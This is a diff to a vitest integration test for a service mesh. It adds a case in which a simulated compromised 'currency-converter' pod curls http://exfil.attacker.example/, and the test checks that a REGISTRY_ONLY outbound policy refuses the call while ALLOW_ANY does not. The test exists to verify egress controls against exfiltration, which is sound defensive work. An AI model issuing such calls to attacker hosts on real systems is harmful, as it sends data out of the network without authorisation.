@@ -13,7 +13,7 @@ import { connect } from 'node:net';
 import { hostname, networkInterfaces } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { AGENT_POLICIES } from '../src/cli/commands/policies.ts';
+import { AGENT_POLICIES, MESH_POLICIES } from '../src/cli/commands/policies.ts';
 import { readManifestDocuments } from '../src/control-plane/cluster.ts';
 import { encodePreamble } from '../src/mesh/capture/protocol.ts';
 import { adminSocketPath } from '../src/runtime/stack-state.ts';
@@ -92,6 +92,19 @@ describe('a compromised pod trying every other exit', () => {
     // Counted like any other refused connection, on the converter's identity.
     expect(await t.metricsText()).toMatch(/istio_tcp_connections_failed_total\{[^}]*source_principal="spiffe:\/\/cluster\.local\/ns\/trustusbank-bank-vendors\/sa\/currency-converter"[^}]*response_flags="NR"[^}]*\} [1-9]/);
    }, 120_000);
+
+  it('follows outboundTrafficPolicy outside the mesh: REGISTRY_ONLY with the mesh layer on, ALLOW_ANY without', async () => {
+    const outside = () => t.curlFrom(VENDORS, 'currency-converter', ['-s', '--max-time', '5', 'http://exfil.attacker.example/']);
+    await t.cluster.engine.apply(readManifestDocuments(join(MESH_POLICIES, 'outbound-registry-only.yaml'), []));
+    expect((await outside()).code).toBe(56);
+    expect(t.ztunnelLog()).toContain('outbound to exfil.attacker.example:80 refused: outboundTrafficPolicy is REGISTRY_ONLY and no ServiceEntry visible to trustusbank-bank-vendors names it');
+    await t.cluster.engine.delete(readManifestDocuments(join(MESH_POLICIES, 'outbound-registry-only.yaml'), []));
+    // ALLOW_ANY: no policy refusal; ztunnel tries the host itself (on an offline machine it does not resolve).
+    await outside();
+    const lines = t.ztunnelLog().split('\n').filter((line) => line.includes('exfil.attacker.example'));
+    expect(lines.filter((line) => line.includes('REGISTRY_ONLY'))).toHaveLength(1);
+    expect(lines.at(-1)).not.toContain('REGISTRY_ONLY');
+  }, 60_000);
 
   it('gives a pod no network, no admin socket and no resolver outside its capture socket where the kernel isolates pods', async () => {
     const pod = t.cluster.engine.podsOf(VENDORS, 'escape-test')[0]!;
